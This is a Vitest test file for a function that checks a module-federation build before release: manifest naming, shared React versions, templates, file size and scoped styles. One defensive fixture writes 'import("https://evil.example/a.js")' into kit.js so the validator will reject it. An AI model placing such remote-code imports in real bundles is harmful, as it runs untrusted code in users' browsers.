import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { PageTemplate } from '@kickabout/contract';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readBuild } from './read-build.ts';

const NOTHING = { js: { sync: [], async: [] }, css: { sync: [], async: [] } };
const REACT = { name: 'react', requiredVersion: '^19.0.0', assets: NOTHING };
const KIT = { path: './kit-screen', assets: { ...NOTHING, js: { sync: ['kit.js'], async: [] } } };
const GOOD = {
  metaData: { globalName: 'mf_kit_r1' },
  shared: [REACT],
  exposes: [KIT],
};

let built: string;
beforeEach(() => {
  built = mkdtempSync(join(tmpdir(), 'kickabout-built-'));
  build({});
});
afterEach(() => rmSync(built, { recursive: true }));

/** What the plugin has written, with some changes. */
function build(changes: object, files: Readonly<Record<string, string>> = {}): void {
  const written = {
    'mf-manifest.json': JSON.stringify({ ...GOOD, ...changes }),
    'mf-stats.json': '{}',
    'remote-entry.js': 'entry',
    'kit.js': 'kit',
    ...files,
  };
  for (const [file, text] of Object.entries(written)) writeFileSync(join(built, file), text);
}

const read = (template?: PageTemplate) =>
  readBuild(
    {
      name: 'mf-kit',
      routes: [
        {
          path: '/kit',
          access: 'everyone',
          title: 'Kit',
          screen: './src/kit-screen.tsx',
          ...(template && { template }),
        },
      ],
    },
    built,
  );

it('becomes a release with the name, the shared modules and the files that the plugin says', async () => {
  const { manifest, folder, files } = await read();
  expect(folder).toBe(built);
  expect(files).toEqual(['kit.js', 'mf-manifest.json', 'remote-entry.js']);
  expect(manifest).toMatchObject({
    name: 'mf-kit',
    release: 'r1',
    entry: '/remotes/mf-kit/r1/remote-entry.js',
    routes: [{ path: '/kit', screen: 'kit-screen' }],
    needs: { react: '^19.0.0' },
    files: { 'kit-screen': [{ file: 'kit.js' }] },
  });
});

it('has its template, whose calls the page begins with', async () => {
  const template = {
    read: { call: 'getPlayer', params: { id: ':id' } },
    title: [['preferred_name']],
    parts: [
      {
        read: { call: 'getPlayerRecord', params: { id: ':id' } },
        as: 'facts',
        columns: [{ text: [['record.wins']] }],
      },
    ],
  } as PageTemplate;
  expect((await read(template)).manifest.routes).toMatchObject([
    { template, reads: ['/players/:id', '/players/:id/record'] },
  ]);
});

it.each([
  [
    'a field that its call doesn’t answer',
    { read: { call: 'getPlayer' }, title: [['surname']] },
    /kit-screen\.tsx: getPlayer has no surname\./,
  ],
  ['a field without a call', { title: [['name']] }, /no call has no name\./],
  ['a call that there isn’t', { read: { call: 'toString' }, title: [['name']] }, /toString has no name\./],
  [
    'a field that no row has',
    {
      title: ['Kit'],
      parts: [
        {
          read: { call: 'listMatches' },
          as: 'cards',
          columns: [],
          places: ['players_in', 'places', 'price'],
        },
      ],
    },
    /listMatches has no places\./,
  ],
  [
    'what only players see of a match',
    { read: { call: 'getMatch' }, title: [['pitch_cost']] },
    /getMatch has no pitch_cost\./,
  ],
])('is refused with a template that has %s', async (_, template, reason) => {
  await expect(read(template as PageTemplate)).rejects.toThrow(reason);
});

describe('is refused', () => {
  const shared = (changes: object) => ({ shared: [{ ...REACT, ...changes }] });
  it.each([
    ['another name', { metaData: { globalName: 'kit' } }, /container is called kit\. Call it mf_kit_/],
    ['no release in its name', { metaData: { globalName: 'mf_kit_' } }, /Call it mf_kit_ with/],
    [
      'a library that the page lacks',
      shared({ name: 'lodash' }),
      /shares lodash, which the page doesn't provide/,
    ],
    ['its own copy of one', shared({ assets: KIT.assets }), /contains a copy of react.*import: false/],
    [
      'a version that is no range',
      shared({ requiredVersion: '*' }),
      /needs react \*\. Set `requiredVersion`.*\^19/,
    ],
    ['a screen that is missing', { exposes: [] }, /doesn't expose \.\/kit-screen/],
  ])('with %s', async (_, changes, reason) => {
    build(changes);
    await expect(read()).rejects.toThrow(reason);
  });

  it('without its manifest', async () => {
    rmSync(join(built, 'mf-manifest.json'));
    await expect(read()).rejects.toThrow('has no mf-manifest.json');
  });

  it.each([
    ['styles that reach outside it', 'kit.css', 'h1 { color: red }', 'its styles reach outside it: h1. Put'],
    ['too heavy a file', 'kit.js', randomBytes(60_000).toString('hex'), /kit\.js is \d+ bytes; the limit/],
    ['code from another site', 'kit.js', 'import("https://evil.example/a.js")', 'kit.js loads https://evil'],
  ])('with %s', async (_, file, text, reason) => {
    build({}, { [file]: text });
    await expect(read()).rejects.toThrow(reason);
  });

  it('with a manifest that is none', async () => {
    writeFileSync(join(built, 'mf-manifest.json'), '{"metaData":{}}');
    await expect(read()).rejects.toThrow(/mf-manifest\.json: [\s\S]*globalName/);
  });
});
